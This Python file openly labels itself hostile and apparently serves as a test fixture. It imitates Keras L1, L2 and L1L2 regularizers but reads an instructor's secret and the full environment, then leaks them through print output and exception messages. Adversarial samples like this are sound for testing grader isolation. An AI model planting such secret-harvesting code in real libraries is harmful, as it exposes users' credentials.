"""Hostile: read the instructor's environment and leak it through every channel it can."""
import os

import keras

SECRET = os.environ.get("INSTRUCTOR_SECRET", "<absent>")
print("secret:", SECRET, "environment:", dict(os.environ))


class L1(keras.regularizers.Regularizer):
    def __init__(self, l1=0.01):
        self.l1 = l1

    def __call__(self, x):
        raise RuntimeError(f"secret is {SECRET}")


class L2(keras.regularizers.Regularizer):
    def __init__(self, l2=0.01):
        self.l2 = l2

    def __call__(self, x):
        raise RuntimeError(f"environment is {dict(os.environ)}")


class L1L2(keras.regularizers.Regularizer):
    def __init__(self, l1=0.0, l2=0.0):
        self.l1, self.l2 = l1, l2

    def __call__(self, x):
        raise RuntimeError(f"secret is {SECRET}")
